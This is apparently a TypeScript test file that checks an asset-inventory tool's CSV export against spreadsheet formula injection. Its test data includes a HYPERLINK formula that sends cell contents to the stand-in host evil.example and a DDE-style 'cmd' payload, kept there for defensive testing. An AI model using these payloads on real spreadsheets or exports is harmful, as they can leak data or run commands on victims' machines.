/**
 * Found by reading (issue 13): the CSV export did not neutralise spreadsheet formulas, so an
 * asset whose owner was `=HYPERLINK(…)` ran as a formula in the analyst's spreadsheet. Every
 * CSV Cordon writes goes through `csvCell`; the asset import reads an export back unchanged.
 */
import { describe, expect, it } from 'vitest';
import type { Asset } from '../assets/asset.ts';
import { assetsToCsv } from '../assets/asset-export.ts';
import { parseInventory } from '../assets/asset-import.ts';
import { csvCell, csvCellValue } from './csv-cell.ts';

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "'plain apostrophe",
  'ordinary, with a comma',
];

describe('CSV cells', () => {
  it('never starts a cell with a formula character', () => {
    for (const value of hostile) {
      const cell = csvCell(value);
      const unquoted = cell.startsWith('"') ? cell.slice(1) : cell;
      expect(unquoted, value).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(csvCell('web-01')).toBe('web-01');
    expect(csvCell('10.0.0.1;10.0.0.2')).toBe('10.0.0.1;10.0.0.2');
  });

  it('reads back exactly what was written', () => {
    for (const value of hostile) {
      const cell = csvCell(value);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
      expect(csvCellValue(unquoted)).toBe(value);
    }
  });

  it('exports an inventory with hostile fields that imports back to the same values', () => {
    const asset: Asset = {
      id: '00000000-0000-4000-8000-000000000001',
      tenantId: '00000000-0000-4000-8000-000000000002',
      name: 'web-01',
      kind: 'server',
      addresses: ['192.0.2.1'],
      mac: null,
      os: '-x linux',
      owner: '=HYPERLINK("http://evil.example","x")',
      location: '@SUM(1)',
      criticality: 'high',
      tags: ['+cmd', 'plain'],
      segmentId: null,
      redundancyGroup: "'=quoted",
      agentInstalled: false,
      operationalStatus: 'up',
      lastSeenAt: null,
      retiredAt: null,
      createdAt: 0,
      updatedAt: 0,
    };
    const csv = assetsToCsv([asset], []);
    for (const cell of csv.split('\n')[1]!.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
    const { rows, refused } = parseInventory(csv, 'csv');
    expect(refused).toEqual([]);
    expect(rows[0]!.fields).toMatchObject({
      os: '-x linux',
      owner: '=HYPERLINK("http://evil.example","x")',
      location: '@SUM(1)',
      tags: ['+cmd', 'plain'],
      redundancyGroup: "'=quoted",
    });
  });
});
